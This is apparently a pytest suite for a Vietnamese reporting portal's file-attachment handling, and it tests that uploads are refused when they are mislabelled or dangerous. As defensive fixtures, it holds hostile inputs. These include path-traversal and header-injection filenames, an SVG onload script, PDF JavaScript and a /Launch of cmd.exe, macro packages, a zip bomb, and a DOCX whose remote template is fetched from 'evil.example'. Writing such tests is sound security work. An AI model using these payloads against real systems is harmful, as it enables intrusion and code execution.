"""Attached documents: taken only when they are what they say, kept once under their hash, named harmlessly."""

from __future__ import annotations

import hashlib
import io
import zipfile
from datetime import timedelta

import pytest
from sqlmodel import select

from models.errors import Refused
from models.facts import Attachment, Submission
from models.file_kinds import why_not
from models.settings import Home
from portal.attachments import harmless_name, kept
from tests.portal.people import FIGURES, KEY, Portal, seal_in, token_in

FORM = f"/don-vi/{KEY}"
PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF\n"


def package(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(name, "<x/>")
    return out.getvalue()


def send(client, name: str, content: bytes, media: str = "application/octet-stream"):
    page = client.get(FORM).text
    data = {"seal": seal_in(page), "token": token_in(page), "kind": "figures", **FIGURES}
    return client.post(FORM, data=data, files={"attachment": (name, content, media)})


def test_a_document_is_kept_by_its_hash_and_comes_back_byte_for_byte(portal: Portal) -> None:
    answer = send(portal.unit(), "Biên bản họp.pdf", PDF)
    assert answer.status_code == 303
    sha = hashlib.sha256(PDF).hexdigest()
    assert kept(portal.home, sha).read_bytes() == PDF
    with portal.session() as session:
        row = session.exec(select(Attachment)).one()
    assert (row.name, row.media_type, row.size, row.sha256) == ("Biên bản họp.pdf", "application/pdf", len(PDF), sha)
    back = portal.officer().get(f"/can-bo/tep/{row.id}")
    assert back.content == PDF
    assert back.headers["content-disposition"].startswith("attachment")
    assert back.headers["x-content-type-options"] == "nosniff"


def test_the_receipt_names_what_was_attached(portal: Portal) -> None:
    client = portal.unit()
    assert "Biên bản họp.pdf" in client.get(send(client, "Biên bản họp.pdf", PDF).headers["location"]).text


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("bao-cao.pdf", b"MZ\x90\x00 this is a program"),
        ("bao-cao.exe", b"MZ\x90\x00"),
        ("bao-cao", PDF),
        ("bao-cao.docx", package("xl/workbook.xml")),
        ("bao-cao.xlsx", package("xl/workbook.xml", "xl/vbaProject.bin")),
        ("bao-cao.docx", b"PK\x03\x04 broken"),
        ("anh.png", b"\xff\xd8\xff jpeg inside"),
        ("trang.svg", b"<svg onload='alert(1)'/>"),
        ("trong.pdf", b""),
    ],
)
def test_a_file_that_is_not_what_it_says_is_refused_and_what_was_typed_stays(
    portal: Portal, name: str, content: bytes
) -> None:
    answer = send(portal.unit(), name, content)
    assert answer.status_code == 422
    assert 'id="attachment-error"' in answer.text
    assert 'value="1.250"' in answer.text
    with portal.session() as session:
        assert session.exec(select(Submission)).first() is None
    assert not any(portal.home.files.rglob("*")) if portal.home.files.exists() else True


@pytest.mark.parametrize(
    ("name", "kept_as"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\system32\\x.pdf", "x.pdf"),
        ("C:\\a\\b.pdf", "b.pdf"),
        ("a\x00b\r\nSet-Cookie: x.pdf", "abSet-Cookie_ x.pdf"),
        ("báo cáo.pdf", "báo cáo.pdf"),
        ("...", "tep"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
        ("bao-cao." + "x" * 300, "bao-cao." + "x" * 10),
        ('"><script>.pdf', "___script_.pdf"),
    ],
)
def test_names_lose_whatever_could_be_an_order(name: str, kept_as: str) -> None:
    assert harmless_name(name) == kept_as


def locked(content: bytes) -> bytes:
    """The package with the mark of a password on its first part."""
    at = content.index(b"PK\x01\x02") + 8
    return content[:at] + bytes([content[at] | 1]) + content[at + 1 :]


def fetching() -> bytes:
    relation = (
        '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="https://evil.example/mau.dotm" TargetMode="External"/>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<x/>")
        archive.writestr("word/_rels/settings.xml.rels", relation)
    return out.getvalue()


def swelling() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", "<x/>")
        for n in range(31):
            archive.writestr(f"word/media/{n}.bin", b"0" * (10 * 1024 * 1024))
    return out.getvalue()


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@pytest.mark.parametrize(
    ("kind", "content", "said"),
    [
        ("pdf", PDF + b"trailer <</Root 1 0 R /Encrypt 5 0 R>>", "mật khẩu"),
        ("pdf", PDF + b"<</S /JavaScript /JS (app.alert(1))>>", "mã lệnh"),
        ("pdf", PDF + b"<</S /Launch /F (cmd.exe)>>", "mã lệnh"),
        ("docx", OLE + "EncryptedPackage".encode("utf-16-le"), "mật khẩu"),
        ("docx", OLE + b"an old .doc", "không đúng loại DOCX"),
        ("docx", locked(package("word/document.xml")), "mật khẩu"),
        ("docx", package("word/document.xml", "word/vbaProject.bin"), "macro"),
        ("xlsx", package("xl/workbook.xml", "xl/activeX/activeX1.xml"), "macro"),
        ("docx", fetching(), "tệp mẫu ở nơi khác"),
        ("docx", swelling(), "nén bất thường"),
        ("docx", package("word/document.xml"), ""),
        ("pdf", PDF + b"(/Encryption is a word)", ""),
        ("pdf", PDF + b"2 0 obj <</Length 9>> stream\n\x9c/JS \x01/Launch \nendstream endobj", ""),
        (
            "pdf",
            PDF + b"stream\r\nx\nendstream 3 0 obj <</S /JavaScript>> stream\ny endstream",
            "mã lệnh",
        ),
        ("pdf", PDF + b"stream\n" * 200_000 + b"<</S /JavaScript>>", "mã lệnh"),
    ],
)
def test_what_no_filed_document_may_hold_is_named(kind: str, content: bytes, said: str) -> None:
    why = why_not(kind, content)
    assert said in why if said else why == ""


def test_several_files_are_kept_and_the_same_one_chosen_twice_is_one(portal: Portal) -> None:
    client = portal.unit()
    page = client.get(FORM).text
    data = {"seal": seal_in(page), "token": token_in(page), "kind": "figures", **FIGURES}
    other = PDF + b"2"
    files = [
        ("attachment", (name, c, "application/pdf")) for name, c in (("a.pdf", PDF), ("b.pdf", other), ("a.pdf", PDF))
    ]
    receipt = client.get(client.post(FORM, data=data, files=files).headers["location"]).text
    assert "a.pdf" in receipt
    assert "b.pdf" in receipt
    with portal.session() as session:
        assert sorted(row.name for row in session.exec(select(Attachment))) == ["a.pdf", "b.pdf"]


@pytest.mark.parametrize("many", [11, 20])
def test_too_many_files_are_refused_and_nothing_is_kept(portal: Portal, many: int) -> None:
    client = portal.unit()
    page = client.get(FORM).text
    data = {"seal": seal_in(page), "token": token_in(page), "kind": "figures", **FIGURES}
    files = [("attachment", (f"{n}.pdf", PDF + bytes([n]), "application/pdf")) for n in range(many)]
    answer = client.post(FORM, data=data, files=files)
    assert answer.status_code == 422
    assert "không quá 10 tệp" in answer.text


def test_no_file_hangs_on_what_went_by_a_secret_channel(portal: Portal) -> None:
    client = portal.unit()
    page = client.get(FORM).text
    data = {"seal": seal_in(page), "token": "t", "kind": "offline", "paper_number": "07/BC", "paper_on": "20/11/2026"}
    answer = client.post(FORM, data=data, files={"attachment": ("a.pdf", PDF, "application/pdf")})
    assert answer.status_code == 422
    assert "không đính kèm tệp" in answer.text
    with portal.session() as session:
        assert session.exec(select(Submission)).first() is None


@pytest.mark.parametrize("sha", ["../../secret.key", "", "A" * 64, "0" * 63, "0" * 64 + "/"])
def test_only_a_hash_names_a_kept_file(home: Home, sha: str) -> None:
    with pytest.raises(Refused):
        kept(home, sha)


def test_a_body_over_the_limit_is_refused_before_it_is_read_whole(portal: Portal) -> None:
    portal.home.save(portal.home.settings().model_copy(update={"upload_limit_mb": 1}))
    client = portal.unit()
    page = client.get(FORM).text
    data = {"seal": seal_in(page), "token": token_in(page), "kind": "figures", **FIGURES}
    big = PDF + b"0" * (1024 * 1024 + 10)
    answer = client.post(FORM, data=data, files={"attachment": ("lon.pdf", big, "application/pdf")})
    assert answer.status_code == 422
    assert "lớn hơn 1 MB" in answer.text
    huge = client.post(FORM, content=b"0", headers={"content-length": str(10**12)})
    assert huge.status_code == 413
    assert "content-security-policy" in huge.headers


def test_a_body_that_hides_its_size_is_cut_off_at_the_limit(portal: Portal) -> None:
    client = portal.unit()

    def endless():
        for _ in range(30):
            yield b"a" * 1024 * 1024

    answer = client.post(FORM, content=endless(), headers={"content-type": "multipart/form-data; boundary=x"})
    assert answer.status_code == 413


def test_a_page_that_was_filed_takes_no_other_file_and_says_so(portal: Portal) -> None:
    client = portal.unit()
    page = client.get(FORM).text
    data = {"seal": seal_in(page), "token": token_in(page), "kind": "figures", **FIGURES}
    assert client.post(FORM, data=data, files={"attachment": ("a.pdf", PDF, "application/pdf")}).status_code == 303
    portal.clock.now += timedelta(minutes=1)
    again = client.post(FORM, data=data, files={"attachment": ("quên.pdf", PDF + b"2", "application/pdf")})
    assert again.status_code == 422
    assert "chưa nhận thêm tệp: quên.pdf" in again.text
    with portal.session() as session:
        assert [row.name for row in session.exec(select(Attachment))] == ["a.pdf"]
        assert len(session.exec(select(Submission)).all()) == 1


def test_the_same_form_sent_twice_keeps_its_document_once(portal: Portal) -> None:
    client = portal.unit()
    page = client.get(FORM).text
    data = {"seal": seal_in(page), "token": token_in(page), "kind": "figures", **FIGURES}
    for _ in range(2):
        client.post(FORM, data=data, files={"attachment": ("a.pdf", PDF, "application/pdf")})
    with portal.session() as session:
        assert len(session.exec(select(Attachment)).all()) == 1
